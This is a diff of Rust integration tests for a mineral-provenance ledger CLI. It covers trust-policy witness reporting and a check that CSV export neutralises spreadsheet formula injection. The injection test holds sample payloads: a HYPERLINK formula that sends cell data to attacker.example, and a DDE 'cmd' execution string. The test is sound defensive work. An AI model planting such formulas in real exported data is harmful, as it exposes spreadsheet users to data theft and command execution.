@@ -89,15 +89,47 @@ fn stats_report_graph_and_red_flags_through_the_cli() {
         &bundle_html,
         "--bundle",
         dir.join("bundles/CI-2026-000009.json"),
-        "--trust",
-        dir.join("keys/mru.secretariat.pub"),
-        "--trust",
-        dir.join("keys/ci.sprpk.pub")
+        "--policy",
+        dir.join("trust-policy.txt")
     )
     .run()
     .ok();
     let b = std::fs::read_to_string(&bundle_html).unwrap();
     assert!(b.contains("CI-2026-000009") && b.contains("ST-1") && b.contains("evidence bundle"));
+    assert!(
+        b.contains("ci.sprpk, gn.mines, lr.mme, sl.nma") || b.contains("sl.nma, lr.mme, gn.mines, ci.sprpk"),
+        "the verified witnesses are named"
+    );
+    // Under a policy that requires no witness, the cosignature lines are by no key the
+    // importer trusts: no witness is named, and the banner says the verdict is unwitnessed.
+    let unwitnessed = tmp.join("unwitnessed-policy.txt");
+    let text = std::fs::read_to_string(dir.join("trust-policy.txt")).unwrap();
+    let kept: Vec<&str> = text
+        .lines()
+        .filter(|l| !l.starts_with("witness ") && !l.starts_with("group ") && !l.starts_with("quorum "))
+        .collect();
+    std::fs::write(&unwitnessed, format!("{}\nquorum none\n", kept.join("\n"))).unwrap();
+    let plain_html = tmp.join("ci-unwitnessed.html");
+    kp!(
+        "report",
+        "--html",
+        &plain_html,
+        "--bundle",
+        dir.join("bundles/CI-2026-000009.json"),
+        "--policy",
+        &unwitnessed
+    )
+    .run()
+    .ok();
+    let u = std::fs::read_to_string(&plain_html).unwrap();
+    assert!(
+        u.contains("id=\"witness-banner\"") && u.contains("LOG-4"),
+        "the banner says it is not witnessed"
+    );
+    assert!(
+        u.contains("<b>no witness</b>") && !u.contains("lr.mme,"),
+        "names on unverified lines are not shown"
+    );
     kp!("report", "--html", tmp.join("x.html")).run().code(2);
 
     // The provenance graph alone.
@@ -258,4 +290,115 @@ fn demo_report_renders_in_headless_chromium() {
         &format!("file://{}", bad.display()),
     );
     assert!(!console(&err).is_empty(), "a console.error went unnoticed:\n{err}");
+}
+
+/// Issue 14, item 8: a mine site's region written as a spreadsheet formula reached
+/// `stats --csv` as is; a spreadsheet would run it (`=HYPERLINK` sends the sheet's cells to
+/// the attacker when clicked). Every text cell beginning with `=`, `+`, `-`, `@`, tab or CR
+/// gets a leading quote; numbers stay numbers. The variant: a region that starts with `@`.
+#[test]
+fn stats_csv_neutralises_formula_cells() {
+    let t = crate::util::Trade::new("csv-formula");
+    let attack = "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Kono\")";
+    for (n, region) in [attack, "@SUM(1+1)*cmd|' /C calc'!A0"].into_iter().enumerate() {
+        let site = format!("sl.kono.claim-{n}");
+        let key = t.dir.join(format!("miner-{n}.pem"));
+        kp!("key", "new", &key).run().ok();
+        kp!(
+            "site",
+            "add",
+            "--ledger",
+            &t.ledger,
+            "--key",
+            &t.nma,
+            "--time",
+            t.tick(),
+            "--id",
+            &site,
+            "--name",
+            "Claim",
+            "--country",
+            "SL",
+            "--region",
+            region,
+            "--location",
+            "8.6,-10.9",
+            "--area-m2",
+            "8000"
+        )
+        .run()
+        .ok();
+        kp!(
+            "actor",
+            "enrol",
+            "--ledger",
+            &t.ledger,
+            "--key",
+            &t.nma,
+            "--time",
+            t.tick(),
+            "--id",
+            format!("sl.miner.m{n}"),
+            "--name",
+            "Miner",
+            "--role",
+            "miner",
+            "--country",
+            "SL",
+            "--pubkey",
+            crate::util::pub_of(&key),
+            "--licence",
+            format!("NMA/AM/2026/90{n}"),
+            "--class",
+            "artisanal",
+            "--valid-from",
+            "2026-01-01",
+            "--valid-to",
+            "2026-12-31",
+            "--site",
+            &site
+        )
+        .run()
+        .ok();
+        kp!(
+            "extract",
+            "--ledger",
+            &t.ledger,
+            "--key",
+            &key,
+            "--time",
+            t.tick(),
+            "--site",
+            &site,
+            "--weight",
+            "1.25",
+            "--stones",
+            "3",
+            "--hs",
+            "7102.31"
+        )
+        .run()
+        .ok();
+    }
+    let csv =
+        kp!("stats", "--ledger", &t.ledger, "--from", "2026-01-01", "--to", "2026-12-31", "--csv").run();
+    csv.ok();
+    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(csv.stdout.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    let regions: Vec<&str> = rows.iter().map(|r| &r[2]).filter(|r| !r.is_empty()).collect();
+    csv.check(regions.contains(&format!("'{attack}").as_str()), "the formula region should be quoted");
+    csv.check(regions.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0"), "the @ region should be quoted");
+    for r in &rows {
+        for cell in r.iter() {
+            csv.check(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                &format!("cell {cell:?} is a formula"),
+            );
+        }
+        // The numeric columns are numbers.
+        for i in 7..=11 {
+            let number = r[i].chars().all(|c| c.is_ascii_digit() || c == '.');
+            csv.check(number, &format!("column {i} of {r:?} is not a number"));
+        }
+    }
 }
